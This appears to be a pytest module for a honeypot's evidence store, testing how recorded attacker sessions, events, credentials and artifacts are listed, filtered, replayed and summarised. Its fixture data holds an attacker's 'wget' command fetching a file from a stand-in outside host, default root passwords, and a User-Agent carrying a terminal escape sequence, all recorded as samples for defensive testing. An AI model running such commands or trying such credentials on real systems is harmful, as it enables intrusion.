"""The operations on evidence, called as every surface calls them, on each kind of engine."""

import asyncio
import json
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from decnet_actors.contracts.errors import OperatorError
from decnet_actors.contracts.operation_table import OperationTable
from decnet_actors.contracts.operations import Caller, Role
from decnet_actors.domain.facts import (
    CloseReason,
    CommandSeen,
    Direction,
    FileCaptured,
    HttpRequestSeen,
    SessionClosed,
    SessionOpened,
    ShellCommandSeen,
    SshClientSeen,
    TelnetClientSeen,
    TerminalResized,
    TerminalSeen,
)
from decnet_actors.store import ranges
from decnet_actors.store.artifacts import ArtifactStore
from decnet_actors.store.engine import make_engine
from decnet_actors.store.handlers import bind_operations
from decnet_actors.store.migrations import migrate
from decnet_actors.store.reader import Reader
from tests.decnet_actors.store.conftest import ENGINES, database
from tests.decnet_actors.store.journals import Harness
from tests.decnet_actors.store.samples import NOW, login, record, session_id

ANA = Caller(name="ana", role=Role.VIEWER, via="local")
OPENED = SessionOpened(local_address="192.0.2.1", local_port=22)
CLOSED = SessionClosed(reason=CloseReason.PEER, duration=9.0, bytes_in=1, bytes_out=2)
HOUR = 3600.0

# Three sessions: a long one over SSH, one over HTTP from another source, one an hour later that is still open.
STORY = (
    record(0, OPENED, session=1),
    record(1, SshClientSeen(version="SSH-2.0-Go", hassh="ab", algorithms="x"), session=1),
    record(2, login("root", b"123456"), session=1),
    record(3, login("root", b"toor", accepted=True), session=1),
    record(4, TerminalResized(columns=100, rows=30, term="xterm"), session=1),
    record(5, TerminalSeen(direction=Direction.OUT, data=b"$ \xe2\x98"), session=1),
    record(6, TerminalSeen(direction=Direction.OUT, data=b"\x83\xff"), session=1),
    record(7, TerminalSeen(direction=Direction.IN, data=b"id\r"), session=1),
    record(8, ShellCommandSeen(line="wget http://203.0.113.9/x", interactive=True), session=1),
    record(
        9,
        FileCaptured(path="/tmp/x", sha256="0" * 64, size=3, direction=Direction.IN, mechanism="wget"),
        session=1,
    ),
    record(10, OPENED, session=2, source="198.51.100.2", service="http", decky="web-02"),
    record(
        11,
        HttpRequestSeen(
            method="GET",
            target="/100%_sure",
            version="HTTP/1.1",
            headers=((b"Host", b"x"), (b"User-Agent", b"curl/8\x1b[31m")),
            body=b"",
            body_size=0,
            body_sha256="0" * 64,
            status=404,
        ),
        session=2,
        source="198.51.100.2",
        service="http",
        decky="web-02",
    ),
    record(12, CLOSED, session=1),
    record(13, OPENED, session=3, time=NOW + HOUR),
    record(14, login("root", b"123456"), session=3, time=NOW + HOUR + 1),
    record(15, TelnetClientSeen(options=(), terminal="vt100"), session=3, time=NOW + HOUR + 2),
    record(16, CommandSeen(verb="PING"), session=3, time=NOW + HOUR + 3),
)


async def tell(url: str) -> None:
    """Write the story, in two processes of the daemon."""
    engine = make_engine(url)
    await migrate(engine)
    for part in (STORY[:7], STORY[7:]):
        harness = Harness(engine)
        await harness.start()
        await harness.keep(*part)
        await harness.stop()
    await engine.dispose()


@pytest.fixture(scope="module", params=ENGINES)
def story_url(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A database with the story in it, for all tests of this module: they only read."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('story')}/decnet.db"
        asyncio.run(tell(url))
        yield url
        return
    with asyncio.Runner() as runner:
        place = database(request.getfixturevalue(f"{request.param}_server"), "story")
        url = runner.run(place.__aenter__())
        runner.run(tell(url))
        yield url
        runner.run(place.__aexit__(None, None, None))


@pytest.fixture
async def harness(story_url: str):
    engine = make_engine(story_url)
    harness = Harness(engine)
    await harness.start()
    yield harness
    await harness.aclose()
    await engine.dispose()


@pytest.fixture
def table(harness: Harness) -> OperationTable:
    table = OperationTable(None, lambda: NOW)
    bind_operations(
        table,
        engine=harness.engine,
        reader=Reader(harness.engine),
        now=lambda: NOW + HOUR + 30,
        status=harness.status,
    )
    return table


async def seqs(table: OperationTable, **args) -> list[int]:
    page = await table.call("event.list", args, ANA)
    return [item["seq"] for item in page["items"]]


async def all_pages(table: OperationTable, name: str, **args) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    cursor = None
    while True:
        page = await table.call(name, {**args, **({"cursor": cursor} if cursor else {})}, ANA)
        items += page["items"]
        cursor = page["next"]
        if cursor is None:
            return items


async def test_events_are_listed_newest_first_with_all_that_was_recorded(table: OperationTable) -> None:
    page = await table.call("event.list", {"limit": 2}, ANA)

    assert [item["seq"] for item in page["items"]] == [17, 16]
    newest = page["items"][0]
    assert newest == {
        "seq": 17,
        "id": STORY[16].id,
        "time": NOW + HOUR + 3,
        "host": "manager",
        "decky": "web-01",
        "service": "ssh",
        "session": session_id(3),
        "source": "203.0.113.7",
        "source_port": 40_000,
        "kind": "CommandSeen",
        "topic": "decky.manager.web-01.command_seen",
        "summary": "PING",
        "fact": {"verb": "PING", "args": []},
    }


@pytest.mark.parametrize("limit", [1, 3, 17, 100])
async def test_pages_of_events_together_are_all_but_the_bytes_of_terminals(table: OperationTable, limit: int) -> None:
    items = await all_pages(table, "event.list", limit=limit)
    terminals = await all_pages(table, "event.list", limit=limit, kind="TerminalSeen")

    shown = [item["seq"] for item in items]
    hidden = [item["seq"] for item in terminals]
    assert sorted([*shown, *hidden], reverse=True) == list(range(17, 0, -1))
    assert shown == [seq for seq in range(17, 0, -1) if seq not in hidden]
    assert len(hidden) == sum(type(record.fact).__name__ == "TerminalSeen" for record in STORY) > 0


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ({"decky": "web-02"}, [12, 11]),
        ({"service": "http", "kind": "HttpRequestSeen"}, [12]),
        ({"source": "198.51.100.2"}, [12, 11]),
        ({"source": "192.0.2.99"}, []),
        ({"session": session_id(2)}, [12, 11]),
        ({"session": "nobody"}, []),
        ({"kind": "CredentialSeen"}, [15, 4, 3]),
        ({"kind": "credential_seen, sessionclosed"}, [15, 13, 4, 3]),
        ({"since": NOW + HOUR}, [17, 16, 15, 14]),
        ({"since": NOW + 11, "until": NOW + HOUR}, [13, 12]),
        ({"since": NOW + 9 * HOUR}, []),
        ({"until": NOW}, []),
        ({"q": "toor"}, [4]),
        ({"q": "100%_"}, [12]),
        ({"q": "TOOR"}, []),
        ({"q": "root", "kind": "CredentialSeen", "until": NOW + 60}, [4, 3]),
    ],
)
async def test_events_are_filtered(table: OperationTable, args: dict[str, object], expected: list[int]) -> None:
    assert await seqs(table, **args) == expected


async def test_a_search_that_looks_at_too_much_hands_out_a_cursor(table: OperationTable, monkeypatch) -> None:
    from decnet_actors.store import event_queries

    monkeypatch.setattr(event_queries, "WINDOW", 2)
    monkeypatch.setattr(event_queries, "MAX_SCAN", 4)
    page = await table.call("event.list", {"decky": "web-02", "limit": 1}, ANA)

    assert page["items"] == []
    assert page["next"] is not None
    items = await all_pages(table, "event.list", decky="web-02", limit=1)
    assert [item["seq"] for item in items] == [12, 11]


async def test_an_unknown_kind_is_refused_with_a_guess(table: OperationTable) -> None:
    with pytest.raises(OperatorError, match="CredentialSeen") as caught:
        await table.call("event.list", {"kind": "CredentialSen"}, ANA)

    assert caught.value.kind.code == "DN5001"


@pytest.mark.parametrize("cursor", ["x", "AAAA", "W10", "WyJhIl0", "WzFlMzAwXQ", "Wzk5OTk5OTk5OTk5OTk5OTk5OTk5OTld"])
@pytest.mark.parametrize("name", ["event.list", "session.list", "attacker.list", "credential.list", "artifact.list"])
async def test_a_cursor_that_is_none_is_refused(sqlite_engine: AsyncEngine, name: str, cursor: str) -> None:
    harness = Harness(sqlite_engine)
    table = OperationTable(None, lambda: NOW)
    bind_operations(table, engine=sqlite_engine, reader=Reader(sqlite_engine), now=lambda: NOW, status=harness.status)

    with pytest.raises(OperatorError) as caught:
        await table.call(name, {"cursor": cursor}, ANA)

    assert caught.value.kind.code == "DN5001"


@pytest.mark.parametrize("ident", ["4", STORY[3].id])
async def test_one_event_is_shown_by_number_or_id(table: OperationTable, ident: str) -> None:
    event = await table.call("event.show", {"event": ident}, ANA)

    assert (event["seq"], event["summary"]) == (4, "root / toor accepted (ssh password)")
    assert event["fact"]["secret"] == {"text": "toor", "base64": "dG9vcg=="}


@pytest.mark.parametrize("ident", ["99", "9" * 40, "zz", "", "0" * 32, "\x00"])
async def test_an_event_that_is_not_there(table: OperationTable, ident: str) -> None:
    with pytest.raises(OperatorError) as caught:
        await table.call("event.show", {"event": ident}, ANA)

    assert caught.value.kind.code == "DN3001"


async def test_the_tail_gives_the_newest_and_ends_with_what_is_stored(table: OperationTable) -> None:
    got = [item["seq"] async for item in table.stream("event.tail", {"last": 2, "kind": "CredentialSeen"}, ANA)]
    after = [item["seq"] async for item in table.stream("event.tail", {"after": 14}, ANA)]

    assert got == [4, 15]
    assert after == [15, 16, 17]


async def test_a_histogram_has_every_bar(table: OperationTable) -> None:
    args = {"since": NOW, "until": NOW + 2 * HOUR, "buckets": 2}
    plain = await table.call("event.histogram", args, ANA)
    narrow = await table.call("event.histogram", {**args, "service": "ssh"}, ANA)

    assert plain["step"] == HOUR
    assert [(item["time"], item["count"]) for item in plain["items"]] == [(NOW, 13), (NOW + HOUR, 4)]
    assert [item["count"] for item in narrow["items"]] == [11, 4]


async def test_sessions_are_listed_newest_first(table: OperationTable) -> None:
    items = await all_pages(table, "session.list", limit=1)

    assert [item["id"] for item in items] == [session_id(3), session_id(2), session_id(1)]
    assert items[2] == {
        "id": session_id(1),
        "decky": "web-01",
        "service": "ssh",
        "source": "203.0.113.7",
        "source_port": 40_000,
        "opened": NOW,
        "last_seen": NOW + 12,
        "closed": NOW + 12,
        "reason": "peer",
        "duration": 9.0,
        "bytes_in": 1,
        "bytes_out": 2,
        "events": 11,
        "commands": 1,
        "credentials": 2,
        "files": 1,
        "replayable": True,
        "user": "root",
        "client": "SSH-2.0-Go",
        "host": "manager",
        "first_seq": 1,
        "last_seq": 13,
    }
    assert items[1]["client"] == r"curl/8\x1b[31m"


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ({"decky": "web-02"}, [2]),
        ({"service": "ssh"}, [3, 1]),
        ({"source": "198.51.100.2"}, [2]),
        ({"state": "open"}, [3, 2]),
        ({"state": "closed"}, [1]),
        ({"since": NOW + 1}, [3, 2]),
        ({"until": NOW + 5}, [1]),
        ({"q": "SSH-2.0-go"}, [1]),
        ({"q": "%"}, []),
    ],
)
async def test_sessions_are_filtered(table: OperationTable, args: dict[str, object], expected: list[int]) -> None:
    page = await table.call("session.list", args, ANA)

    assert [int(item["id"], 16) for item in page["items"]] == expected


async def test_a_session_is_shown_with_what_happened(table: OperationTable) -> None:
    shown = await table.call("session.show", {"id": session_id(1)}, ANA)

    assert shown["kinds"]["TerminalSeen"] == 3
    assert shown["kinds"]["CredentialSeen"] == 2
    assert [event["seq"] for event in shown["timeline"]] == [1, 2, 3, 4, 5, 9, 10, 13]
    assert [(use["user"], use["secret"]["text"], use["accepted"]) for use in shown["uses"]] == [
        ("root", "toor", 1),
        ("root", "123456", 0),
    ]
    assert shown["truncated"] is False


async def test_a_session_is_replayed_as_asciicast(table: OperationTable) -> None:
    replay = await table.call("session.replay", {"id": session_id(1)}, ANA)
    header, *lines = [json.loads(line) for line in replay["lines"]]

    assert (header["version"], header["width"], header["height"]) == (2, 100, 30)
    assert header["env"] == {"TERM": "xterm"}
    assert lines == [[1.0, "o", "$ "], [2.0, "o", "\N{SNOWMAN}\ufffd"], [3.0, "i", "id\r"]]
    assert replay["duration"] == 3.0


async def test_a_session_without_a_terminal_has_no_replay(table: OperationTable) -> None:
    with pytest.raises(OperatorError, match="nothing was shown on a terminal") as caught:
        await table.call("session.replay", {"id": session_id(2)}, ANA)

    assert caught.value.fix == (f"decnetctl session show {session_id(2)}",)


@pytest.mark.parametrize("name", ["session.show", "session.replay", "credential.show"])
async def test_what_is_not_there_is_said_so(table: OperationTable, name: str) -> None:
    with pytest.raises(OperatorError) as caught:
        await table.call(name, {"id": "nothing"}, ANA)

    assert caught.value.kind.code == "DN3001"
    assert caught.value.fix == (f"decnetctl {name.partition('.')[0]} list",)


@pytest.mark.parametrize("order", ["recent", "count"])
async def test_credentials_are_listed(table: OperationTable, order: str) -> None:
    items = await all_pages(table, "credential.list", limit=1, order=order)

    assert [(item["secret"]["text"], item["count"], item["accepted"], item["sessions"]) for item in items] == [
        ("123456", 2, 0, 2),
        ("toor", 1, 1, 1),
    ]


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ({"user": "root"}, 2),
        ({"user": "admin"}, 0),
        ({"secret": "toor"}, 1),
        ({"kind": "public_key"}, 0),
        ({"accepted": True}, 1),
        ({"accepted": False}, 1),
        ({"since": NOW + HOUR}, 1),
    ],
)
async def test_credentials_are_filtered(table: OperationTable, args: dict[str, object], expected: int) -> None:
    assert len((await table.call("credential.list", args, ANA))["items"]) == expected


async def test_a_credential_is_shown_with_where_it_was_tried(table: OperationTable) -> None:
    page = await table.call("credential.list", {"secret": "123456"}, ANA)
    shown = await table.call("credential.show", {"id": page["items"][0]["id"]}, ANA)

    assert [use["session"] for use in shown["uses"]] == [session_id(3), session_id(1)]
    assert (shown["first_seen"], shown["last_seen"]) == (NOW + 2, NOW + HOUR + 1)


async def test_artifacts_are_listed(engine: AsyncEngine, tmp_path: Path) -> None:
    table = OperationTable(None, lambda: NOW)
    bind_operations(table, engine=engine, reader=Reader(engine), now=lambda: NOW, status=Harness(engine).status)
    for now, data in ((1.5, b"one"), (2.5, b"two"), (2.5, b"three")):
        store = ArtifactStore(engine, tmp_path, now=partial(float, now), offload=asyncio.to_thread)
        await store.keep(data)
    items = await all_pages(table, "artifact.list", limit=1)

    assert sorted(item["size"] for item in items) == [3, 3, 5]
    assert items[-1]["first_seen"] == 1.5
    assert len((await table.call("artifact.list", {"q": items[0]["sha256"][:8], "since": 2.0}, ANA))["items"]) == 1


async def test_the_overview_counts_and_compares(table: OperationTable) -> None:
    shown = await table.call("overview.show", {"since": NOW + HOUR, "until": NOW + 2 * HOUR, "buckets": 2}, ANA)

    assert shown["events"] == {"value": 4, "previous": 13}
    assert shown["sessions"] == {"value": 1, "previous": 2}
    assert shown["credentials"] == {"value": 1, "previous": 2}
    assert shown["accepted"] == {"value": 0, "previous": 1}
    assert shown["sources"] == {"value": 1, "previous": 2}
    assert shown["commands"] == {"value": 1, "previous": 2}
    assert shown["files"] == {"value": 0, "previous": 1}
    assert shown["open_sessions"] == 2
    assert shown["last_event"] == NOW + HOUR + 3
    assert [(point["time"], point["events"]) for point in shown["series"]] == [
        (NOW + HOUR, 4),
        (NOW + 1.5 * HOUR, 0),
    ]
    assert shown["deckies"] == [{"name": "web-01", "count": 1}]
    assert shown["top_sources"] == [{"name": "203.0.113.7", "count": 1}]
    assert shown["users"] == [{"name": "root", "count": 2}]
    assert shown["secrets"] == [{"name": "123456", "count": 2}]


async def test_the_database_tells_how_it_does(table: OperationTable, harness: Harness) -> None:
    shown = await table.call("db.status", {}, ANA)

    assert (shown["engine"], shown["head"], shown["events"], shown["dead_letters"]) == (
        harness.engine.dialect.name,
        17,
        17,
        0,
    )
    assert (shown["oldest"], shown["newest"]) == (NOW, NOW + HOUR + 3)
    assert shown["size"] > 10_000


async def test_an_empty_store_has_answers_too(engine: AsyncEngine) -> None:
    harness = Harness(engine)
    await harness.start()
    table = OperationTable(None, lambda: NOW)
    bind_operations(table, engine=engine, reader=Reader(engine), now=lambda: NOW, status=harness.status)

    for name in ("event.list", "session.list", "attacker.list", "credential.list", "artifact.list"):
        assert await table.call(name, {}, ANA) == {"items": [], "next": None}
    assert sum(item["count"] for item in (await table.call("event.histogram", {}, ANA))["items"]) == 0
    assert (await table.call("overview.show", {}, ANA))["events"] == {"value": 0, "previous": 0}
    assert (await table.call("db.status", {}, ANA))["oldest"] is None
    await harness.aclose()


def test_every_kind_has_its_spellings() -> None:
    assert ranges.parse_kinds("session_opened,SessionOpened,sessionopened") == ("SessionOpened",) * 3
    assert ranges.parse_kinds(None) == ()
